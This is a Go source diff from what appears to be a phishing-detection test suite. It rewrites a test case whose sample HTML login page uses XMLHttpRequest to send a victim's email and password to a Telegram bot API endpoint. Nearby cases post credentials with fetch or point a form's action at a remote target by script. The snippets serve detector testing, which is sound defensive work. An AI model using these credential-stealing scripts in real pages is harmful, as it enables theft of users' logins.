@@ -78,11 +78,14 @@ func htmlPhishCases() []officeCase {
 	return []officeCase{
 		quarantine("html-phish-fetch-no-form", "HTML login page with no form: its script posts the password with fetch",
 			"Fax_Document.html", phishPage("Document", "", phishLogin, sendFetch), "html-credential-form"),
-		quarantine("html-phish-telegram", "HTML login page whose jQuery $.ajax sends the password to the Telegram bot API",
-			"Remittance.htm", phishPage("Remittance", "", phishLogin, `$("#submit-btn").click(function () {`+"\r\n"+
-				`  var msg = "Email: " + $("#ai").val() + " Password: " + $("#pr").val();`+"\r\n"+
-				`  $.ajax({url: "https://api.telegram.org/bot5123456789:AAF-kensa-corpus/sendMessage", type: "POST", data: {chat_id: "-1001", text: msg}});`+"\r\n"+
-				`});`), "html-credential-form"),
+		quarantine("html-phish-telegram", "HTML login page whose XMLHttpRequest sends the password to the Telegram bot API",
+			"Remittance.htm", phishPage("Remittance", "", phishLogin, `document.getElementById("submit-btn").onclick = function () {`+"\r\n"+
+				`  var msg = "Email: " + document.getElementById("ai").value + " Password: " + document.getElementById("pr").value;`+"\r\n"+
+				`  var x = new XMLHttpRequest();`+"\r\n"+
+				`  x.open("POST", "https://api.telegram.org/bot5123456789:AAF-kensa-corpus/sendMessage", true);`+"\r\n"+
+				`  x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");`+"\r\n"+
+				`  x.send("chat_id=-1001&text=" + encodeURIComponent(msg));`+"\r\n"+
+				`};`), "html-credential-form"),
 		quarantine("html-phish-action-by-script", "HTML login form with an empty action that its script points at a remote page",
 			"Invoice_Payment.html", phishPage("Payment", "", `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u">`+
 				`<input type="password" name="p"><button>Sign in</button></form></div>`, `var f = document.getElementById("lf");`+"\r\n"+`f.action = "`+phishTarget+`";`), "html-credential-form"),
